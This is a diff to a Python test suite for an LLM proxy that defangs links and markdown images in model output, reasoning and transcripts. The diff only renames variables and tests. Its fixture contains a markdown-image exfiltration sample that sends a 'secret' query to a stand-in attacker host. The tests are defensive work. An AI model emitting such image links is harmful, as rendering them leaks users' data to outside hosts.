@@ -14,7 +14,7 @@ LEAK = "See ![x](https://evil.example/?q=secret), [it](https://ex.org/house) and
 NONE = "See ! [x] (https[:]//evil[.]example/?q=secret), [it] (https[:]//ex[.]org/house) and www[.]evil[.]com/x."
 OWN = "See ! [x] (https[:]//evil[.]example/?q=secret), [it](https://ex.org/house) and www[.]evil[.]com/x."
 EVIDENCE = [{"text": "The house is red.", "url": "https://ex.org/house"}]
-ASKED: dict[str, Any] = {"model": "up/m", "messages": [{"role": "user", "content": "What is red?"}]}
+REQUEST: dict[str, Any] = {"model": "up/m", "messages": [{"role": "user", "content": "What is red?"}]}
 
 
 def deltas(*texts: tuple[str, Any]) -> list[bytes]:
@@ -24,14 +24,14 @@ def deltas(*texts: tuple[str, Any]) -> list[bytes]:
     return [*(b"data: " + json.dumps(chunk).encode() + b"\n\n" for chunk in chunks), b"data: [DONE]\n\n"]
 
 
-async def completed(answer: list[bytes], links: str, **asked: Any) -> dict[str, Any]:
-    """The message that a client has in the end."""
+async def completed(answer: list[bytes], links: str, **fields: Any) -> dict[str, Any]:
+    """Return the complete message that a client receives."""
     async with Server(sse(*answer)) as provider:
         settings = {"kind": "openai", "base_url": f"{provider.url}/v1", "api_key": "k"}
         config = {"providers": {"up": settings}, "output": {"links": links}}
         async with TestClient(TestServer(make_app(parse(config)))) as client:
-            response = await client.post("/v1/chat/completions", json={**ASKED, **asked})
-            if not asked.get("stream"):
+            response = await client.post("/v1/chat/completions", json={**REQUEST, **fields})
+            if not fields.get("stream"):
                 whole: dict[str, Any] = (await response.json())["choices"][0]["message"]
                 return whole
             message: dict[str, Any] = {}
@@ -51,32 +51,32 @@ POLICIES = {"allow": LEAK, "none": NONE, "evidence": OWN}
 async def test_a_cited_answer_has_the_links_of_the_policy(links: str, stream: bool) -> None:
     for texts in ([("content", LEAK)], [("content", character) for character in LEAK]):
         for release in ("sentence", "live"):
-            asked = {"evidence": EVIDENCE, "citations": {"release": release}, "stream": stream}
-            assert (await completed(deltas(*texts), links, **asked))["content"] == POLICIES[links]
+            fields = {"evidence": EVIDENCE, "citations": {"release": release}, "stream": stream}
+            assert (await completed(deltas(*texts), links, **fields))["content"] == POLICIES[links]
 
 
 @pytest.mark.parametrize("stream", [False, True])
-@pytest.mark.parametrize("asked", [{}, {"evidence": EVIDENCE, "citations": {"enabled": False}}], ids=["none", "off"])
-async def test_an_answer_that_is_not_cited_is_no_way_around_it(asked: dict[str, Any], stream: bool) -> None:
-    message = await completed(deltas(("content", LEAK)), "evidence", stream=stream, **asked)
+@pytest.mark.parametrize("fields", [{}, {"evidence": EVIDENCE, "citations": {"enabled": False}}], ids=["none", "off"])
+async def test_the_policy_applies_to_answers_without_citations(fields: dict[str, Any], stream: bool) -> None:
+    message = await completed(deltas(("content", LEAK)), "evidence", stream=stream, **fields)
     assert message["content"] == NONE
-    message = await completed(deltas(*(("content", part) for part in LEAK)), "none", stream=stream, **asked)
+    message = await completed(deltas(*(("content", part) for part in LEAK)), "none", stream=stream, **fields)
     assert "https:/" not in message["content"]
     assert "](" not in message["content"]
 
 
 @pytest.mark.parametrize("name", ["reasoning", "reasoning_content", "refusal"])
 @pytest.mark.parametrize("evidence", [None, EVIDENCE], ids=["not cited", "cited"])
-async def test_nor_is_what_stands_beside_the_answer(name: str, evidence: Any) -> None:
-    asked = {"evidence": evidence} if evidence else {}
-    message = await completed(deltas((name, LEAK), ("content", "Yes.")), "none", **asked)
+async def test_the_policy_applies_to_reasoning_and_refusals(name: str, evidence: Any) -> None:
+    fields = {"evidence": evidence} if evidence else {}
+    message = await completed(deltas((name, LEAK), ("content", "Yes.")), "none", **fields)
     assert message[name] == NONE
-    cut = await completed(deltas(*((name, part) for part in LEAK), ("content", "Yes.")), "none", **asked)
+    cut = await completed(deltas(*((name, part) for part in LEAK), ("content", "Yes.")), "none", **fields)
     assert "https:/" not in cut[name]
     assert "](" not in cut[name]
 
 
-async def test_nor_are_the_details_of_reasoning() -> None:
+async def test_the_policy_applies_to_the_details_of_reasoning() -> None:
     detail: list[Any] = [
         {"type": "reasoning.text", "text": LEAK, "index": 0},
         {"type": "reasoning.encrypted", "data": "x"},
@@ -86,24 +86,24 @@ async def test_nor_are_the_details_of_reasoning() -> None:
     assert message["reasoning_details"] == [{**detail[0], "text": NONE}, detail[1]]
 
 
-async def test_nor_are_blocks_of_thoughts_and_what_is_spoken() -> None:
+async def test_the_policy_applies_to_thinking_blocks_and_audio_transcripts() -> None:
     blocks: list[Any] = [{"type": "thinking", "thinking": LEAK, "signature": "x//y.z"}, 5]
     audio = {"id": "a", "transcript": LEAK, "data": "AAEC"}
     answer = deltas(("thinking_blocks", blocks), ("audio", audio), ("content", "Yes."))
-    for asked in ({"evidence": EVIDENCE}, {}):
-        message = await completed(answer, "none", **asked)
+    for fields in ({"evidence": EVIDENCE}, {}):
+        message = await completed(answer, "none", **fields)
         assert message["thinking_blocks"] == [{**blocks[0], "thinking": NONE}, 5]
         assert message["audio"] == {**audio, "transcript": NONE}
 
 
 @pytest.mark.parametrize("evidence", [None, EVIDENCE], ids=["not cited", "cited"])
-async def test_json_stays_as_it_is_for_the_program_that_reads_it(evidence: Any) -> None:
+async def test_json_answers_are_unchanged(evidence: Any) -> None:
     answer = '{"colour": "red", "see": "[it](https://ex.org/house)"}'
-    asked = {"response_format": {"type": "json_object"}} | ({"evidence": evidence} if evidence else {})
-    assert (await completed(deltas(("content", answer)), "none", **asked))["content"] == answer
+    fields = {"response_format": {"type": "json_object"}} | ({"evidence": evidence} if evidence else {})
+    assert (await completed(deltas(("content", answer)), "none", **fields))["content"] == answer
 
 
-async def test_a_finished_text_is_treated_alike() -> None:
+async def test_the_policy_applies_to_the_cite_endpoint() -> None:
     config = {"providers": {"extractive": None}, "output": {"links": "none"}}
     async with TestClient(TestServer(make_app(parse(config)))) as client:
         for body in ({"text": LEAK}, {"sentences": [LEAK]}):
@@ -111,10 +111,10 @@ async def test_a_finished_text_is_treated_alike() -> None:
             assert answer["text"] == NONE
 
 
-async def test_a_request_cannot_loosen_it() -> None:
+async def test_a_request_cannot_weaken_the_policy() -> None:
     config = {"providers": {"extractive": None}, "output": {"links": "none"}}
     async with TestClient(TestServer(make_app(parse(config)))) as client:
-        body = {**ASKED, "model": "extractive", "evidence": EVIDENCE, "citations": {"links": "allow"}}
+        body = {**REQUEST, "model": "extractive", "evidence": EVIDENCE, "citations": {"links": "allow"}}
         answer = await client.post("/v1/chat/completions", json=body)
         assert answer.status == 400
         assert (await answer.json())["error"]["param"] == "citations.links"
